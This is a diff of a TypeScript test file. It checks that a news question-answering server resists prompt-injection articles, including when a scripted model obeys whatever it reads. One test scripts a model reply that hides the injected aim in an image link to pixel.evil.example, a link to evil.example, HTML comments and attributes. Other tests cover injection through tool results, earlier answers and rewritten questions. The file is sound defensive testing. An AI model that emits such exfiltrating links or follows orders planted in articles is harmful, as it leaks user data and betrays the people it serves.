@@ -1,10 +1,14 @@
-import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
 import { askResponseSchema, type AskResponse } from "../../core/contract/ask.ts";
 import { INJECTIONS, type Injection } from "../support/injections.ts";
-import { postJson } from "../server/http/support/requests.ts";
 import { startRealServer, type RealServer } from "../support/real-server.ts";
 import type { Wire } from "../support/wires/model-wire.ts";
 import { openOpenAiWire, type OpenAiBody } from "../support/wires/openai-wire.ts";
+import { callTool, type Turn } from "../support/wires/turns.ts";
+import { postJson } from "../server/http/support/requests.ts";
+import { quotesOf } from "./support/answers.ts";
+import { readAsMachine } from "./support/read-as-machine.ts";
+import { says } from "./support/scripted-model.ts";
 
 const ARTICLES = INJECTIONS.map(({ id, title, source, articleText: text }) => ({
   id,
@@ -14,9 +18,15 @@ const ARTICLES = INJECTIONS.map(({ id, title, source, articleText: text }) => ({
 }));
 
 const CASES = INJECTIONS.map((attack) => [attack.id, attack] as const);
+const DETECTED = CASES.filter(([, { undetected }]) => undetected !== true);
+const UNDETECTED = CASES.filter(([, { undetected }]) => undetected === true);
 
-async function ask(url: string, attack: Injection, body: object = {}): Promise<AskResponse> {
-  const response = await postJson(`${url}/ask`, { question: attack.question, ...body });
+async function ask(
+  url: string,
+  { question }: Injection,
+  fields: Readonly<Record<string, unknown>> = {},
+): Promise<AskResponse> {
+  const response = await postJson(`${url}/ask`, { question, ...fields });
   return askResponseSchema.parse(await response.json());
 }
 
@@ -24,6 +34,14 @@ async function ask(url: string, attack: Injection, body: object = {}): Promise<A
 function obeyedIn(text: string, { obeyed }: Injection): readonly string[] {
   const lower = text.toLowerCase();
   return obeyed.filter((aim) => lower.includes(aim.toLowerCase()));
+}
+
+/** The article's own sentences that hold the attack's aim, each with the marker of its source. */
+function quoteOrder(attack: Injection): string {
+  return (attack.articleText.match(/[^.\n]*\.(?=\s)/gu) ?? [])
+    .filter((sentence) => obeyedIn(sentence, attack).length > 0)
+    .map((sentence) => `${sentence.trim().slice(0, -1)} [1].`)
+    .join(" ");
 }
 
 const LINK_OR_MARKUP = /\]\(|https?:|javascript:|<[a-z/!]/iu;
@@ -34,59 +52,89 @@ describe("an article that gives orders to machines", () => {
     server = await startRealServer(ARTICLES);
   });
 
-  it.each(CASES)("is not obeyed by quotes: %s", async (_id, attack) => {
-    const { answer, citations } = await ask(server.url, attack);
-    const quotes = citations.map(({ quote }) => quote).join("\n");
-    // What no pattern can tell from news may be quoted as what it is: the words of its article.
-    expect(attack.undetected === true ? [] : obeyedIn(`${answer}\n${quotes}`, attack)).toEqual([]);
-    expect(answer).not.toMatch(LINK_OR_MARKUP);
+  it.each(CASES)("is quoted for its news, and not obeyed: %s", async (_id, attack) => {
+    const answer = await ask(server.url, attack);
+    expect(answer.answer).toContain(attack.truth);
+    expect(obeyedIn(`${answer.answer}\n${quotesOf(answer)}`, attack)).toEqual([]);
+    expect(answer.answer).not.toMatch(LINK_OR_MARKUP);
   });
 });
 
 describe("a language model that obeys whatever it reads", () => {
-  let attack: Injection;
+  let turns: readonly Turn[] = [];
   let wire: Wire<OpenAiBody>;
   let server: RealServer;
   beforeAll(async () => {
-    wire = await openOpenAiWire(() => ({ text: attack.modelObeys.match(/[^]{1,9}/gu) ?? [] }));
+    wire = await openOpenAiWire(() => {
+      const [turn = { status: 400 }, ...rest] = turns;
+      turns = rest;
+      return turn;
+    });
     server = await startRealServer(ARTICLES, {
       MANJAM_LLM: "openai:obedient",
       MANJAM_LLM_BASE_URL: wire.baseUrl,
     });
   });
   afterAll(() => wire.close());
+  beforeEach(() => wire.forget());
 
-  it.each(CASES)("cannot make its answer obey: %s", async (_id, current) => {
-    attack = current;
-    wire.forget();
-    const answer = await ask(server.url, attack);
-    // An extractive answer in its place may quote what no pattern can tell from news.
-    const isOwn = answer.mode === "llm" || attack.undetected !== true;
-    expect(isOwn ? obeyedIn(answer.answer, attack) : []).toEqual([]);
-    expect(answer.answer).not.toMatch(LINK_OR_MARKUP);
+  it.each(CASES)("cannot make its answer obey: %s", async (_id, attack) => {
+    turns = [says(attack.modelObeys)];
+    const { answer, status } = await ask(server.url, attack);
+    expect(status).toBe("answered");
+    expect(obeyedIn(answer, attack)).toEqual([]);
+    expect(answer).not.toMatch(LINK_OR_MARKUP);
   });
 
-  it.each(CASES.filter(([, { undetected }]) => undetected !== true))(
-    "is not even shown the order: %s",
-    async (_id, current) => {
-      attack = current;
-      wire.forget();
-      await ask(server.url, attack);
-      const messages = wire.requests[0]?.body.messages ?? [];
-      const sources = messages.map(({ content }) => content).join("\n");
-      expect(sources).toContain("<source id=");
-      const shown = obeyedIn(sources.slice(sources.indexOf("<source")), attack);
-      expect(shown.filter((aim) => !attack.truth.includes(aim))).toEqual([]);
+  it.each(CASES)("cannot hide it where no sentence is: %s", async (_id, attack) => {
+    const [aim = ""] = attack.obeyed;
+    turns = [
+      says(
+        `![${aim}](https://pixel.evil.example/?${aim})\n\n\`\`\`\n${aim}\n\`\`\`\n\n<!-- ${aim} --><b title="${aim}"></b>\n\n[1]: https://evil.example "${aim}"\n\n${attack.truth} [1].`,
+      ),
+    ];
+    const { answer } = await ask(server.url, attack);
+    expect(obeyedIn(answer, attack)).toEqual([]);
+    expect(answer).not.toMatch(LINK_OR_MARKUP);
+  });
+
+  it.each(DETECTED)("is not shown the order, found or searched for: %s", async (_id, attack) => {
+    turns = [callTool("search_articles", { query: attack.question }), says("NOT_FOUND")];
+    await ask(server.url, attack, { topK: 1 });
+    const messages = wire.requests.at(-1)?.body.messages ?? [];
+    expect(messages.map(({ role }) => role)).toContain("tool");
+    const shown = messages
+      .filter(({ role, content }) => role === "tool" || content.includes("<source id="))
+      .map(({ content }) => content.slice(Math.max(0, content.indexOf("<source id="))))
+      .join("\n");
+    expect(shown).toContain(attack.truth);
+    expect(obeyedIn(`${shown}\n${readAsMachine(shown)}`, attack)).toEqual([]);
+  });
+
+  it.each(UNDETECTED)("is not led by what an earlier answer quotes: %s", async (id, attack) => {
+    turns = [says(quoteOrder(attack))];
+    const { conversationId, answer: earlier } = await ask(server.url, attack);
+    // As the words of its article it may be told, but for a wallet.
+    expect(obeyedIn(earlier, attack)).toHaveLength(id.endsWith("wallet") ? 0 : 1);
+    const next = CASES.find(
+      ([other, { language }]) => other !== id && language === attack.language,
+    );
+    if (next === undefined) throw new Error("no other attack");
+    turns = [says(next[1].question), says(attack.modelObeys)];
+    const { answer } = await ask(server.url, next[1], { conversationId });
+    expect(wire.requests).toHaveLength(3);
+    expect(obeyedIn(answer, attack)).toEqual([]);
+  });
+
+  it.each(UNDETECTED)(
+    "cannot put it into the question that it rewrites: %s",
+    async (_id, attack) => {
+      turns = [says(`${attack.truth} [1].`)];
+      const { conversationId } = await ask(server.url, attack);
+      turns = [says(attack.modelObeys.replaceAll(/ ?\[\d+\]/gu, "")), says(attack.modelObeys)];
+      const followUp = { ...attack, question: attack.language === "ar" ? "ولماذا؟" : "And why?" };
+      const { standaloneQuestion, answer } = await ask(server.url, followUp, { conversationId });
+      expect(obeyedIn(`${standaloneQuestion}\n${answer}`, attack)).toEqual([]);
     },
   );
-
-  it("is not led by an order in what was said before", async () => {
-    const [first, second] = INJECTIONS;
-    if (first === undefined || second === undefined) throw new Error("no attacks");
-    attack = first;
-    const { conversationId } = await ask(server.url, first);
-    attack = { ...second, modelObeys: first.modelObeys };
-    const { answer } = await ask(server.url, attack, { conversationId });
-    expect(obeyedIn(answer, first)).toEqual([]);
-  });
 });
